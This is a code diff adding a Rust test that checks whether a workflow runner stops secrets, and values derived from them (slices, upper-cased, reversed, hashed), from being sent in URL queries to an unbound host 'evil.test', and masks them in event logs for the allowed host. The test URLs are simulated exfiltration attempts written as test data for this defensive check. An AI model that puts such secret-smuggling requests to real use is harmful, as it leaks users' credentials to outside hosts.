@@ -104,6 +104,32 @@ fn a_bound_secret_goes_to_its_hosts_only() {
 }
 
 #[test]
+fn what_is_made_of_a_bound_secret_is_bound_as_well_and_masked_in_urls() {
+    let flow = |url: &str| {
+        format!(
+            "inputs: {{ secret: {{ secret: true }} }}\nvars: {{ loud: \"{{{{ secret | upper }}}}\" }}\nsteps:\n  - request: \"GET {url}\"\n"
+        )
+    };
+    let setup = || Setup {
+        inputs: vec![("secret", "bound-secret-value".into(), true)],
+        hosts: vec![("secret", "good.test")],
+        ..Setup::default()
+    };
+    for value in
+        ["{{ secret[:9] }}", "{{ secret | upper }}", "{{ loud }}", "{{ loud | reverse }}", "{{ secret | sha256 }}"]
+    {
+        for place in ["/_wxflow/echo?a=", "/_wxflow/echo?b=x"] {
+            let ran = setup().run(&flow(&format!("http://evil.test{place}{value}"))).failed();
+            assert!(ran.sent.is_empty(), "{value}");
+            let ran = setup().run(&flow(&format!("http://good.test{place}{value}"))).passed();
+            let query = ran.sent[0].url.query().unwrap().split_once('=').unwrap().1.to_owned();
+            let value = query.trim_start_matches('x');
+            assert!(!ran.json.contains(value), "{value} is in the events");
+        }
+    }
+}
+
+#[test]
 fn a_redirect_does_not_carry_a_bound_secret_in_its_url() {
     let ran = Setup {
         inputs: vec![("secret", "bound-secret-value".into(), true)],
